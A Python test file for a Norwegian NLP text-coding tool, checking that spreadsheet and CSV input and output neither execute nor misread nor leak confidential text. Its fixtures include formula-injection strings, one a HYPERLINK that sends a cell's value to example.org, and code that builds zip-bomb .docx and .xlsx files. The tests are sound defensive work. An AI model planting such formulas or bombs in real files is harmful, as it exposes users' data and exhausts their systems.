"""Nothing lost, ever (issue 11): spreadsheets that cannot execute, readers that do not misread.

Map of the tests to the issue's points:

* point 6, spreadsheet cells execute, XML-illegal characters leak the text:
  test_classify_xlsx_stores_formula_prefixes_as_text,
  test_disagreements_xlsx_stores_formula_prefixes_as_text,
  test_classify_xlsx_refuses_xml_illegal_characters_without_the_text,
  test_evaluate_refuses_xml_illegal_characters_without_the_text
  (the row limit of point 5/6: test_safety_outputs.test_xlsx_row_limit_is_refused_without_temp_files)
* point 8, silent misreads: test_merged_excel_cells_keep_every_coders_code_and_warn,
  test_valence_without_type_is_refused,
  test_one_segment_id_with_two_texts_is_refused (one file and two files),
  test_unclosed_quote_is_refused, test_jsonl_text_must_be_a_string,
  test_invisible_text_is_no_text, and the CLI view test_misreads_exit_2_without_text
* point 10, archive limits and the CSV field limit: test_docx_zip_bomb_is_refused,
  test_docx_with_too_many_paragraphs_is_refused, test_xlsx_zip_bomb_is_refused,
  test_csv_output_with_a_200_kib_segment_reads_back
"""

from __future__ import annotations

import json
import zipfile
from pathlib import Path

import openpyxl
import pytest

import mpsoc_nlp

from .safety_support import assert_refused, mpsoc, sample_rows, snapshot, temp_files, write_rows

FORMULAS = ['=HYPERLINK("http://example.org/?x="&A1;"klikk")', "=1+1", "+47 99 99 99 99", "-2", "@SUM(A1:A3)"]
SECRET = "Hemmelig tekst om pasienten"


# point 6 ------------------------------------------------------------------------------------
def test_classify_xlsx_stores_formula_prefixes_as_text(tmp_path, safety_model):
    rows = [[f"F{i}", "D1", text] for i, text in enumerate(FORMULAS)]
    write_rows(tmp_path / "in.csv", ["segment_id", "document_id", "text"], rows)
    run = mpsoc("classify", safety_model, "in.csv", "--out", "p.xlsx", cwd=tmp_path)
    assert run.code == 0, run.text
    ws = openpyxl.load_workbook(tmp_path / "p.xlsx")["Predictions"]
    header = [c.value for c in ws[1]]
    col = header.index("text") + 1
    cells = [ws.cell(row=r, column=col) for r in range(2, 2 + len(FORMULAS))]
    assert [c.value for c in cells] == FORMULAS
    assert all(c.data_type == "s" for c in cells), [(c.value, c.data_type) for c in cells]


def _gold_with(tmp_path: Path, texts: list[str]) -> Path:
    """Two coders' sample documents plus one document whose segments carry ``texts``; A and B disagree there."""
    header, rows = sample_rows(8)
    idx = {name: i for i, name in enumerate(header)}
    extra = []
    for coder, code in (("A", "geografisk:positiv"), ("B", "relasjonell:negativ")):
        for i, text in enumerate(texts):
            row = [""] * len(header)
            row[idx["segment_id"]] = f"X-1:{i}"
            row[idx["document_id"]] = "X-1"
            row[idx["genre"]] = "intervju"
            row[idx["text"]] = text
            row[idx["codes"]] = code
            row[idx["coder"]] = coder
            extra.append(row)
    return write_rows(tmp_path / "gold.csv", header, rows + extra)


def test_disagreements_xlsx_stores_formula_prefixes_as_text(tmp_path, safety_model):
    _gold_with(tmp_path, FORMULAS)
    run = mpsoc("evaluate", safety_model, "gold.csv", "--out", "rep", "--resamples", "5", cwd=tmp_path)
    assert run.code == 0, run.text
    ws = openpyxl.load_workbook(tmp_path / "rep" / "disagreements.xlsx")["Disagreements"]
    col = [c.value for c in ws[1]].index("text") + 1
    cells = {ws.cell(row=r, column=col).value: ws.cell(row=r, column=col) for r in range(2, ws.max_row + 1)}
    for text in FORMULAS:
        assert text in cells, text
        assert cells[text].data_type == "s", (text, cells[text].data_type)


@pytest.mark.parametrize("char", ["\x00", "\x01", "\x0b", "\x1f"])
def test_classify_xlsx_refuses_xml_illegal_characters_without_the_text(tmp_path, safety_model, char):
    path = tmp_path / "in.jsonl"  # JSONL carries a NUL, which CSV cannot
    lines = [{"segment_id": "ok", "text": "Helt vanlig tekst."}, {"segment_id": "bad", "text": SECRET + char + "x"}]
    path.write_text("\n".join(json.dumps(rec) for rec in lines) + "\n", encoding="utf-8")
    before = snapshot(tmp_path)
    run = mpsoc("classify", safety_model, "in.jsonl", "--out", "p.xlsx", cwd=tmp_path)
    assert_refused(run, SECRET)
    assert "row 3" in run.err and "'text'" in run.err  # located: the spreadsheet row and the column
    assert f"U+{ord(char):04X}" in run.err
    assert snapshot(tmp_path) == before
    assert temp_files(tmp_path) == []


def test_evaluate_refuses_xml_illegal_characters_without_the_text(tmp_path, safety_model):
    _gold_with(tmp_path, [SECRET + "\x01 mer tekst", "Vanlig tekst."])
    before = snapshot(tmp_path)
    run = mpsoc("evaluate", safety_model, "gold.csv", "--out", "rep", "--resamples", "5", cwd=tmp_path)
    assert_refused(run, SECRET)
    assert "U+0001" in run.err
    assert snapshot(tmp_path) == before


# point 8 ------------------------------------------------------------------------------------
def _merged_workbook(path: Path) -> Path:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Koding"
    ws.append(["segment_id", "document_id", "coder", "text", "codes"])
    ws.append(["INT-01:1", "INT-01", "A", "Æ følte mæ hjemme i bygda.", "geografisk:positiv"])
    ws.append(["INT-01:1", "INT-01", "B", "Æ følte mæ hjemme i bygda.", "geografisk:positiv"])
    ws.append(["INT-01:2", "INT-01", "A", "Mamma ringer hver søndag.", "relasjonell:positiv"])
    ws.merge_cells("E2:E3")  # B's code now reads as empty
    wb.save(path)
    return path


def test_merged_excel_cells_keep_every_coders_code_and_warn(tmp_path, caplog):
    path = _merged_workbook(tmp_path / "koding.xlsx")
    with caplog.at_level("WARNING", logger="mpsoc_nlp"):
        rows = mpsoc_nlp.read_segments(path)
    b = rows[(rows["coder"] == "B") & (rows["segment_id"] == "INT-01:1")]
    assert list(b["codes"]) == [("geografisk:positiv",)]  # read as Excel shows it, not dropped
    warned = [r.getMessage() for r in caplog.records if "merged" in r.getMessage()]
    assert warned and "E2:E3" in warned[0] and "koding.xlsx" in warned[0]
    assert "bygda" not in warned[0]


def test_valence_without_type_is_refused(tmp_path):
    path = write_rows(
        tmp_path / "pairs.csv",
        ["segment_id", "document_id", "text", "community_type", "valence"],
        [["s1", "D1", "Jeg savner bygda.", "geografisk", "positiv"], ["s2", "D1", "Gutta forsto meg.", "", "negativ"]],
    )
    with pytest.raises(mpsoc_nlp.InputError) as info:
        mpsoc_nlp.read_segments(path)
    assert info.value.row == 3 and info.value.column == "valence"


def test_one_segment_id_with_two_texts_is_refused(tmp_path):
    header = ["segment_id", "document_id", "coder", "text", "codes"]
    rows = [
        ["INT-01:1", "INT-01", "A", SECRET + " en", "geografisk:positiv"],
        ["INT-01:1", "INT-01", "B", SECRET + " to", "geografisk:positiv"],
    ]
    path = write_rows(tmp_path / "one.csv", header, rows)
    with pytest.raises(mpsoc_nlp.InputError) as info:
        mpsoc_nlp.read_segments(path)
    assert info.value.row == 3 and info.value.column == "text"
    assert SECRET not in str(info.value)
    a = write_rows(tmp_path / "a.csv", header, rows[:1])
    b = write_rows(tmp_path / "b.csv", header, rows[1:])
    with pytest.raises(mpsoc_nlp.InputError) as info:
        mpsoc_nlp.read_segments([a, b])
    assert info.value.path == str(b) and SECRET not in str(info.value)
    # whitespace alone is no other text
    same = write_rows(tmp_path / "same.csv", header, [rows[0], [*rows[1][:3], SECRET + "  en ", rows[1][4]]])
    assert len(mpsoc_nlp.read_segments(same)) == 2


def test_unclosed_quote_is_refused(tmp_path):
    path = tmp_path / "quote.csv"
    path.write_text(
        "segment_id,document_id,text,codes\n"
        's1,D1,"Jeg savner bygda, sa han,geografisk:positiv\n'
        "s2,D1,Mamma ringer hver søndag.,relasjonell:positiv\n"
        "s3,D1,Gutta forsto meg.,rusrelatert:positiv\n",
        encoding="utf-8",
    )
    with pytest.raises(mpsoc_nlp.InputError) as info:
        mpsoc_nlp.read_segments(path)
    assert info.value.row == 2 and "quote" in str(info.value)
    # a quoted cell over several lines is fine
    ok = tmp_path / "ok.csv"
    ok.write_text('segment_id,text\ns1,"To linjer,\nmed komma"\ns2,Skjermen er 5" stor\n', encoding="utf-8")
    assert len(mpsoc_nlp.read_segments(ok)) == 2


def test_a_second_line_with_commas_is_text_but_a_swallowed_row_is_refused(tmp_path):
    """Paired quotes: one continuation line with as many cells as the header is a swallowed row
    only when it starts like the other rows (a segment id), not when it is a line of a note."""
    note = tmp_path / "note.csv"
    note.write_text(
        "segment_id,document_id,text,codes\n"
        's1,D1,"Innkomst.\nPlan: blodprøver, samtale, skjema, henvisning.",\n'
        "s2,D1,Mamma ringer hver søndag.,relasjonell:positiv\n",
        encoding="utf-8",
    )
    seg = mpsoc_nlp.read_segments(note)
    assert seg["text"].tolist()[0].endswith("skjema, henvisning.") and len(seg) == 2
    swallowed = tmp_path / "swallowed.csv"
    swallowed.write_text(
        "segment_id,document_id,text,codes\n"
        's1,D1,"Jeg savner bygda, sa han,geografisk:positiv\n'
        's2,D1,Mamma ringer hver søndag.,relasjonell:positiv"\n'
        "s3,D1,Gutta forsto meg.,rusrelatert:positiv\n",
        encoding="utf-8",
    )
    with pytest.raises(mpsoc_nlp.InputError) as info:
        mpsoc_nlp.read_segments(swallowed)
    assert info.value.row == 2 and info.value.column == "text" and "quote" in str(info.value)


@pytest.mark.parametrize("value", [{"a": 1}, 42, 3.5, ["to", "ord"], True])
def test_jsonl_text_must_be_a_string(tmp_path, value):
    path = tmp_path / "in.jsonl"
    recs = [{"segment_id": "s1", "text": "Vanlig tekst."}, {"segment_id": "s2", "text": value}]
    path.write_text("\n".join(json.dumps(r) for r in recs) + "\n", encoding="utf-8")
    with pytest.raises(mpsoc_nlp.InputError) as info:
        mpsoc_nlp.read_segments(path)
    assert info.value.row == 2 and info.value.column == "text"


@pytest.mark.parametrize("text", ["\u00a0\u00a0", "\u200b", "\u00a0\u200b\u2060\ufeff", " \u200c\u200d "])
def test_invisible_text_is_no_text(tmp_path, text):
    path = write_rows(
        tmp_path / "in.csv",
        ["segment_id", "text", "codes"],
        [["s1", "Vanlig tekst.", ""], ["s2", text, "ideell:positiv"]],
    )
    with pytest.raises(mpsoc_nlp.InputError) as info:
        mpsoc_nlp.read_segments(path)
    assert info.value.row == 3 and info.value.column == "text"


def test_misreads_exit_2_without_text(tmp_path):
    header = ["segment_id", "document_id", "coder", "text", "codes"]
    write_rows(
        tmp_path / "two.csv",
        header,
        [["s1", "D1", "A", SECRET + " en", "ideell:positiv"], ["s1", "D1", "B", SECRET + " to", "ideell:positiv"]],
    )
    before = snapshot(tmp_path)
    run = mpsoc("validate", "two.csv", cwd=tmp_path)
    assert_refused(run, SECRET)
    assert "two.csv" in run.err
    assert snapshot(tmp_path) == before


# point 10 -----------------------------------------------------------------------------------
def _docx(path: Path, document_xml: bytes | None = None) -> Path:
    """A real .docx (python-docx), its ``word/document.xml`` replaced by ``document_xml`` if given."""
    import docx

    d = docx.Document()
    d.add_paragraph("I: Hvordan har du det?")
    d.add_paragraph("D: Bra, takk.")
    d.save(path)
    if document_xml is not None:
        _replace_member(path, "word/document.xml", document_xml)
    return path


def _replace_member(path: Path, name: str, data: bytes) -> None:
    with zipfile.ZipFile(path) as zf:
        members = [(i, zf.read(i)) for i in zf.infolist()]
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        for info, content in members:
            zf.writestr(info.filename, data if info.filename == name else content, zipfile.ZIP_DEFLATED)


def _padded(xml: bytes, pad: int) -> bytes:
    """The XML with ``pad`` bytes of whitespace before the closing tag of the body: the same document."""
    cut = xml.rindex(b"</w:body>")
    return xml[:cut] + b" " * pad + xml[cut:]


def test_docx_zip_bomb_is_refused(tmp_path):
    path = _docx(tmp_path / "bomb.docx")
    with zipfile.ZipFile(path) as zf:
        xml = zf.read("word/document.xml")
    _replace_member(path, "word/document.xml", _padded(xml, 16 * 2**20))
    with zipfile.ZipFile(path) as zf:  # the reproducer: inflates far beyond 200:1
        info = zf.getinfo("word/document.xml")
        assert info.file_size > 200 * info.compress_size
    before = snapshot(tmp_path)
    with pytest.raises(mpsoc_nlp.InputError) as info_exc:
        mpsoc_nlp.read_transcript(path)
    assert "zip bomb" in str(info_exc.value) and str(path) in str(info_exc.value)
    run = mpsoc("validate", path.name, cwd=tmp_path)
    assert_refused(run)
    assert snapshot(tmp_path) == before


def test_docx_with_too_many_paragraphs_is_refused(tmp_path):
    path = _docx(tmp_path / "tom.docx")
    with zipfile.ZipFile(path) as zf:
        xml = zf.read("word/document.xml")
    cut = xml.rindex(b"<w:sectPr")
    _replace_member(path, "word/document.xml", xml[:cut] + b"<w:p/>" * 150_000 + xml[cut:])
    assert path.stat().st_size < 200_000  # a small file, as in the issue
    with pytest.raises(mpsoc_nlp.InputError) as info:
        mpsoc_nlp.read_transcript(path)
    assert "paragraphs" in str(info.value)


def test_sound_docx_still_reads(tmp_path):
    frame = mpsoc_nlp.read_transcript(_docx(tmp_path / "ok.docx"))
    assert list(frame["text"]) == ["Bra, takk."]


def test_xlsx_zip_bomb_is_refused(tmp_path):
    path = tmp_path / "bomb.xlsx"
    wb = openpyxl.Workbook()
    wb.active.append(["segment_id", "text"])
    wb.active.append(["s1", "hei"])
    wb.save(path)
    with zipfile.ZipFile(path) as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml")
    cut = sheet.rindex(b"</sheetData>")
    _replace_member(path, "xl/worksheets/sheet1.xml", sheet[:cut] + b" " * (16 * 2**20) + sheet[cut:])
    with pytest.raises(mpsoc_nlp.InputError) as info:
        mpsoc_nlp.read_segments(path)
    assert "zip bomb" in str(info.value)
    assert_refused(mpsoc("validate", path.name, cwd=tmp_path))


def test_csv_output_with_a_200_kib_segment_reads_back(tmp_path, safety_model):
    long_text = ("Jeg savner bygda og folkene der. " * 7000)[: 200 * 1024]
    rows = [["s1", "D1", long_text], ["s2", "D1", "Kort."]]
    write_rows(tmp_path / "in.csv", ["segment_id", "document_id", "text"], rows)
    run = mpsoc("classify", safety_model, "in.csv", "--out", "p.csv", cwd=tmp_path)
    assert run.code == 0, run.text
    back = mpsoc_nlp.read_segments(tmp_path / "p.csv")
    assert back.loc[back["segment_id"] == "s1", "text"].item() == long_text
    assert mpsoc("validate", "p.csv", cwd=tmp_path).code == 0
